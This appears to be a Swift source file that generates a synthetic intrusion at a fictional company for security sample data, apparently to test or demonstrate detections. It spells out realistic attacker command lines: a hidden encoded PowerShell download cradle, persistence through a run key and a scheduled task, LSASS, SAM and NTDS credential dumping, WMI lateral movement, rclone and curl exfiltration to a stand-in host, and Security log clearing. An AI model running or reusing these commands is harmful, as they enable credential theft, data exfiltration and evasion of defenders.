import Casefile

/// The one intrusion of the sample, told over three days up to now. Its processes are fixed first, so that rows and alerts agree.
///
/// A spray against many users gets arisa's password; her account consents to an application and gains a role; a mail from her makes
/// mlopez open a workbook on WS-123, whose macro runs hidden, encoded PowerShell; a run key and a task make it stay; LSASS and the SAM
/// are read; with adm-jokafor's password it moves to SRV-DC01 and SRV-DB02; archives leave by rclone and curl; web-01 knocks at 4444.
struct SampleIntrusion {
  let clock: SampleClock
  let host = SampleCompany.host("WS-123")
  let controller = SampleCompany.host("SRV-DC01")
  let database = SampleCompany.host("SRV-DB02")
  let victim = SampleCompany.person("mlopez")
  let stolen = SampleCompany.person("adm-jokafor")

  let outlook: SampleProcess
  let excel: SampleProcess
  let stager: SampleProcess
  let implant: SampleProcess
  private(set) var chain: [Step] = []

  /// A process of the chain and what started it.
  struct Step {
    var name: String
    var process: SampleProcess
    var parent: SampleProcess
  }

  static let payload = SampleFile(
    folder: "C:\\Users\\mlopez\\AppData\\Roaming\\EdgeSync", name: "edgesync.exe", company: "", product: "", original: "")
  static let workbook = SampleFile(
    folder: "C:\\Users\\mlopez\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QX2K1LM", name: "Supplier_Overview.xlsm",
    company: "", product: "")
  static let download = "http://\(SampleCompany.controller)/static/u.ps1"
  static let runKey = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"

  init(clock: SampleClock, _ random: inout SampleRandom) {
    self.clock = clock
    let account = SampleProcess.Account(victim)
    let start = clock.ago(hours: 19.8)
    let explorer = SampleProcess.root(.explorer, "C:\\Windows\\Explorer.EXE", on: host, at: start - .hours(1), as: account)
    outlook = explorer.child(.outlook, "\"\(SampleFile.outlook.path)\"", at: start - .minutes(30), &random)
    excel = outlook.child(.excel, "\"\(SampleFile.excel.path)\" \"\(SampleIntrusion.workbook.path)\"", at: start, &random)
    let script =
      "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('\(SampleIntrusion.download)')"
    let line = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc \(SampleOperations.encoded(script))"
    stager = excel.child(.powershell, line, at: start + .seconds(41), &random)
    implant = stager.child(SampleIntrusion.payload, "\"\(SampleIntrusion.payload.path)\" -k netsync", at: start + .seconds(97), &random)
    chain = [
      Step(name: "outlook", process: outlook, parent: explorer), Step(name: "excel", process: excel, parent: outlook),
      Step(name: "stager", process: stager, parent: excel), Step(name: "implant", process: implant, parent: stager),
    ]
    onWorkstation(&random)
    onServers(&random)
  }

  /// The step of that name.
  func process(_ name: String) -> SampleProcess { chain.first { $0.name == name }?.process ?? implant }

  private mutating func run(
    _ name: String, _ file: SampleFile, _ line: String, hours: Double, by parent: SampleProcess, on host: SampleCompany.Host? = nil,
    as account: SampleProcess.Account? = nil, _ random: inout SampleRandom
  ) {
    var child = parent.child(file, line, at: clock.ago(hours: hours), as: account, &random)
    if let host { child.host = host }
    chain.append(Step(name: name, process: child, parent: parent))
  }

  private mutating func onWorkstation(_ random: inout SampleRandom) {
    let script = "Invoke-WebRequest -Uri http://\(SampleCompany.controller)/static/m.bin -OutFile $env:TEMP\\m.dat"
    let shell = "powershell.exe -NoProfile -WindowStyle Hidden -Command \"\(script)\""
    let action = "/tn \"\\Microsoft\\Windows\\EdgeSync\\Update\" /tr \"\(SampleIntrusion.payload.path)\""
    run("fetch", .powershell, shell, hours: 19.6, by: implant, &random)
    run(
      "runkey", .system("reg.exe"),
      "reg.exe add HKCU\\\(SampleIntrusion.runKey) /v EdgeSync /t REG_SZ /d \"\(SampleIntrusion.payload.path) -k netsync\" /f", hours: 19.4,
      by: implant, &random)
    run(
      "task", .system("schtasks.exe"),
      "schtasks.exe /create /sc minute /mo 30 \(action) /ru SYSTEM /f", hours: 19.35, by: implant, &random)
    for (place, line) in ["whoami.exe /all", "net.exe group \"Domain Admins\" /domain", "nltest.exe /dclist:contoso.com", "systeminfo.exe"]
      .enumerated()
    {
      let name = String(line.prefix { $0 != " " })
      run("discovery\(place)", .system(name), line, hours: 18.2 - Double(place) * 0.03, by: implant, &random)
    }
    run(
      "lsass", .system("rundll32.exe"),
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\~df21.tmp full", hours: 16.4, by: implant,
      as: .system, &random)
    run("sam", .system("reg.exe"), "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv /y", hours: 16.3, by: implant, as: .system, &random)
    run(
      "hive", .system("reg.exe"), "reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv /y", hours: 16.28, by: implant, as: .system, &random)
  }

  private mutating func onServers(_ random: inout SampleRandom) {
    let admin = SampleProcess.Account(stolen)
    let remote = "cmd.exe /c powershell -nop -w hidden -enc \(SampleOperations.encoded("Get-ChildItem D:\\Data"))"
    run(
      "wmi", .system("wmic.exe"),
      "wmic.exe /node:SRV-DB02 process call create \"\(remote)\"", hours: 9.2, by: implant, as: admin, &random)
    run(
      "share", .system("net.exe"), "net.exe use \\\\SRV-DC01\\ADMIN$ /user:CONTOSO\\adm-jokafor *", hours: 9.0, by: implant, as: admin,
      &random)
    run("rdp", .system("mstsc.exe"), "mstsc.exe /v:SRV-DC01 /admin", hours: 8.7, by: implant, as: admin, &random)
    let host = SampleProcess.root(
      .system("WmiPrvSE.exe"), "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", on: database,
      at: clock.ago(hours: 9.25), as: .system)
    run(
      "remote", .system("cmd.exe"), remote,
      hours: 9.19, by: host, as: admin, &random)
    let shell = process("remote")
    run(
      "archive", SampleFile(folder: "C:\\PerfLogs", name: "7z.exe", company: "Igor Pavlov", product: "7-Zip"),
      "7z.exe a -p -mhe=on C:\\PerfLogs\\fin.7z D:\\Data\\Finance\\", hours: 6.4, by: shell, &random)
    run(
      "rclone", SampleFile(folder: "C:\\PerfLogs", name: "rclone.exe", company: "", product: "Rclone", original: "rclone.exe"),
      "rclone.exe copy C:\\PerfLogs\\ ext:in --config C:\\PerfLogs\\r.conf --no-check-certificate --transfers 8", hours: 5.1, by: shell,
      &random)
    run(
      "curl", .system("curl.exe"), "curl.exe -k -T C:\\PerfLogs\\fin.7z.002 https://\(SampleCompany.dropbox)/in/", hours: 4.3, by: shell,
      &random)
    run("clean", .system("wevtutil.exe"), "wevtutil.exe cl Security", hours: 3.9, by: shell, &random)
    let ticket = SampleProcess.root(.system("cmd.exe"), "cmd.exe", on: controller, at: clock.ago(hours: 8.5), as: admin)
    run(
      "ntds", .system("ntdsutil.exe"), "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\nt\" q q", hours: 8.1,
      by: ticket, on: controller, &random)
  }
}
